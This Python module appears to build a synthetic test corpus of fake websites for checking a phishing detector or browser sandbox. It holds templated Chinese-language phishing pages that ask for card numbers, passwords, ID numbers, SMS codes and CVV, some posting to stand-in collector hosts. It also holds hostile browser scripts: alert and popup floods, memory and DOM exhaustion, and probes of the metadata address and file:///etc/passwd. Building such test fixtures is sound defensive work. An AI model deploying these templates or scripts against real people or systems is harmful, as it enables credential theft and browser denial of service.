"""Made-up sites by a seed: brands, phishing sites of a few kits (some cloaked), honest sites with log-in pages too.

Names may be given from outside: `make_zoo(seed, phishing_names=…)` takes (host, brand) pairs.
"""

import random
import struct
import zlib
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field

#: Made-up brands: name, words of their pages, colour.
BRANDS = (
    ("fictionbank", "虚构银行", (176, 28, 36)), ("example-union", "示例联合银行", (12, 84, 160)),
    ("harborpay", "港湾支付", (0, 140, 90)), ("silverpost", "银邮快递", (230, 120, 0)),
    ("cloudpark", "云园社保", (90, 60, 150)), ("riverway", "江路通行", (20, 110, 110)),
    ("tallpine", "高松证券", (60, 120, 40)), ("brightmall", "明亮商城", (220, 50, 120)),
    ("northtel", "北讯电信", (30, 60, 120)), ("oldgate", "老门保险", (120, 80, 30)),
    ("quickloan", "快捷信贷", (200, 160, 20)), ("meadowtax", "青草税务", (70, 70, 70)),
)  # fmt: skip
_HEAD = '<!doctype html><html lang="zh"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width">'
_SYLLABLES = ("ka", "lo", "mi", "ren", "shu", "ta", "vo", "xin", "yue", "zhen", "bao", "deng")
_TOPICS = ("花店", "钓鱼协会", "羽毛球俱乐部", "烘焙课堂", "二手书店", "社区医院", "旅行笔记", "木工坊")


@dataclass(frozen=True)
class Page:
    """An answer. `only` shows it to telephones or to visitors of a link alone; others get the page without a path."""

    body: bytes
    type: str = "text/html; charset=utf-8"
    status: int = 200
    location: str = ""
    disposition: str = ""


@dataclass(frozen=True)
class Site:
    """One site. `kind` is phishing, honest or hostile; `cloak` says who alone gets the pages: "", phone, referrer."""

    host: str
    kind: str
    pages: dict[str, Page]
    brand: str = ""
    kit: int = -1
    cloak: str = ""
    decoy: Page = field(default_factory=lambda: Page(b"<title>Welcome</title><p>This site is being built.</p>"))
    behaviour: str = ""


def make_brands() -> list[Site]:
    """Return the official sites of the brands, with log-in page, icon and logo."""
    return [
        Site(f"{name}.example", "honest", make_brand_pages(name, title, colour, f"{name}.example"), brand=name)
        for name, title, colour in BRANDS
    ]


def make_zoo(
    seed: int, *, phishing: int = 40, honest: int = 1_000, phishing_names: Sequence[tuple[str, str]] | None = None
) -> list[Site]:
    """Return phishing sites of the brands and honest sites, in the order of their hosts."""
    draw = random.Random(seed)
    names = list(phishing_names or _draw_names(draw, phishing))
    looks = {name: (title, colour) for name, title, colour in BRANDS}
    sites = [make_phishing_site(draw, number, host, brand, *looks[brand]) for number, (host, brand) in enumerate(names)]
    taken = {site.host for site in sites}
    while len(sites) < len(names) + honest:
        name = "".join(draw.choices(_SYLLABLES, k=draw.randint(2, 4)))
        host = f"{name}{draw.choice(('', '-shop', '88', '-club'))}.example"
        if host not in taken:
            taken.add(host)
            sites.append(make_honest_site(draw, host))
    return sorted(sites, key=lambda site: site.host)


def _draw_names(draw: random.Random, count: int) -> Iterable[tuple[str, str]]:
    for number in range(count):
        brand = BRANDS[number % len(BRANDS)][0]
        tail = draw.choice(("-login", "-verify", "-kefu", "-vip", "-account", "-service"))
        yield f"{brand}{tail}{draw.randint(1, 999)}.test", brand


def make_phishing_site(
    draw: random.Random, number: int, host: str, brand: str, title: str, colour: tuple[int, int, int]
) -> Site:
    """Return a site of kit `number % 4`; some are cloaked or behind a redirect."""
    kit = number % 4
    collector = "" if kit % 2 else f"http://collect-{kit}.test/p.php"
    fields = draw.sample(_SECRET_FIELDS, draw.randint(2, 4))
    body = f"""{_HEAD}
<title>{title} 安全中心</title><link rel="icon" href="/favicon.png"><script src="/kit.js"></script>
</head><body>
<header><img class="logo" src="/logo.png" width="160" height="48" alt=""></header>
<h1>{title}</h1><p>您的账户存在异常，请立即验证身份，否则将被冻结。</p>
<form method="post" action="{collector or "post.php"}">{"".join(fields)}
<button>立即验证</button></form></body></html>"""
    pages = {
        "/": Page(body.encode()),
        "/favicon.png": Page(draw_picture(colour, brand, 32, 32), "image/png"),
        "/logo.png": Page(draw_picture(colour, brand, 160, 48), "image/png"),
        "/kit.js": Page(_kit_script(kit), "text/javascript"),
    }
    if number % 7 == 3:  # behind a redirect
        pages |= {"/": Page(b"", status=302, location="/verify/"), "/verify/": pages["/"]}
    cloak = ("", "phone", "", "referrer", "")[number % 5]
    return Site(host, "phishing", pages, brand=brand, kit=kit, cloak=cloak)


_SECRET_FIELDS = (
    '<p><label>银行卡号 <input name="cardno"></label></p>',
    '<p><label>登录密码 <input type="password" name="pwd"></label></p>',
    '<p><label>身份证号码 <input name="idcard"></label></p>',
    '<p><label>短信验证码 <input name="sms"></label></p>',
    '<p><label>CVV 安全码 <input name="cvv"></label></p>',
)


def _kit_script(kit: int) -> bytes:
    return f"/* kit {kit} */\n{''.join(f'var k{kit}_{line}={line};' for line in range(40))}".encode()


def make_honest_site(draw: random.Random, host: str) -> Site:
    """Return a small honest site: some have a log-in, some a search, some another page for telephones."""
    topic = draw.choice(_TOPICS)
    name = host.partition(".")[0]
    links = "".join(
        f'<li><a href="/news/{number}">{topic}动态 {number}</a></li>' for number in range(draw.randint(5, 40))
    )
    kind = draw.random()
    form = ""
    if kind < 0.3:  # an honest log-in
        form = (
            '<form method="post" action="/login"><label>用户名 <input name="user"></label>'
            '<label>密码 <input type="password" name="pw"></label><button>登录</button></form>'
        )
    elif kind < 0.5:
        form = '<form action="/search"><input type="search" name="q"><button>搜索</button></form>'
    body = f"""{_HEAD}<title>{name} {topic}</title>
<link rel="icon" href="/favicon.png"><link rel="stylesheet" href="/style.css"></head><body>
<header><img class="logo" src="/logo.png" width="120" height="40" alt=""></header>
<h1>{topic}</h1><p>欢迎来到{topic}，我们每周更新活动与照片。</p>{form}<ul>{links}</ul>
<footer>© 2026 {name}</footer></body></html>"""
    colour = (draw.randrange(256), draw.randrange(256), draw.randrange(256))
    pages = {
        "/": Page(body.encode()),
        "/style.css": Page(b"body{font-family:sans-serif}", "text/css"),
        "/favicon.png": Page(draw_picture(colour, host, 32, 32), "image/png"),
        "/logo.png": Page(draw_picture(colour, host, 120, 40), "image/png"),
    }
    if draw.random() < 0.1:  # another page for telephones, on another name of the same site
        pages["/"] = Page(body.replace("我们每周更新", "手机版：我们每天更新").encode())
    return Site(host, "honest", pages)


def make_brand_pages(name: str, title: str, colour: tuple[int, int, int], host: str) -> dict[str, Page]:
    """Return the official site of a brand: a log-in page with icon and logo."""
    body = f"""{_HEAD}<title>{name} {title}</title><link rel="icon" href="/favicon.png"></head><body>
<header><img class="logo" src="/logo.png" width="160" height="48" alt=""></header><h1>{title}</h1>
<form method="post" action="https://{host}/login"><label>手机号 <input name="tel"></label>
<label>登录密码 <input type="password" name="pwd"></label></form><footer>© {name}</footer></body></html>"""
    return {
        "/": Page(body.encode()),
        "/favicon.png": Page(draw_picture(colour, name, 32, 32), "image/png"),
        "/logo.png": Page(draw_picture(colour, name, 160, 48), "image/png"),
    }


def draw_picture(colour: tuple[int, int, int], text: str, width: int, height: int) -> bytes:
    """Return a PNG: shapes on white that depend on a text, in one colour."""
    draw = random.Random(text)
    boxes = [(draw.random(), draw.random(), draw.uniform(0.1, 0.5), draw.uniform(0.2, 0.7)) for _ in range(6)]
    rows = []
    for y in range(height):
        row = bytearray([0])
        for x in range(width):
            inside = any(left <= x / width < left + w and top <= y / height < top + h for left, top, w, h in boxes)
            row += bytes(colour if inside else (255, 255, 255))
        rows.append(bytes(row))
    return _png(width, height, b"".join(rows))


def _png(width: int, height: int, rows: bytes) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


HOSTILE = {
    "endless": "a stream without end",
    "bomb": "a page that unpacks to a gigabyte",
    "loop": "redirects in a circle",
    "dialogs": "one alert after the other",
    "popups": "one window after the other",
    "memory": "a script that fills memory",
    "spin": "a script that never ends",
    "dom": "a million elements",
    "slow": "a header that never ends",
    "leak": "beacons, sockets and files, to the outside and to the machine itself",
    "refresh": "a page that reloads itself",
}


def make_hostile() -> list[Site]:
    """Return one site for each attack; the server knows what `behaviour` does."""
    scripts = {
        "dialogs": "while(true)alert('x')",
        "popups": "for(let i=0;i<50;i++)window.open('/p'+i);setInterval(()=>window.open('/q'),10)",
        "memory": "const all=[];setInterval(()=>{for(let i=0;i<8;i++)all.push(new Uint8Array(3e7).fill(i))},1)",
        "spin": "setTimeout(()=>{while(true){}},50)",
        "dom": "for(let i=0;i<300000;i++){const e=document.createElement('input');document.body.append(e)}",
        "leak": "navigator.sendBeacon('http://127.0.0.1:22/b','x');try{new WebSocket('ws://169.254.169.254/')}catch(e){}"
        "fetch('http://10.0.0.1/').catch(()=>0);fetch('file:///etc/passwd')"
        ".then(r=>r.text()).then(t=>document.title=t).catch(()=>0);"
        "new RTCPeerConnection({iceServers:[{urls:'stun:192.0.2.9:3478'}]}).createOffer().catch(()=>0)",
    }
    return [
        Site(
            f"{name}.hostile.test",
            "hostile",
            {"/": Page(f"<title>{name}</title><body><p>x<script>{scripts[name]}</script>".encode())},
        )
        if name in scripts
        else Site(f"{name}.hostile.test", "hostile", {}, behaviour=name)
        for name in HOSTILE
    ]
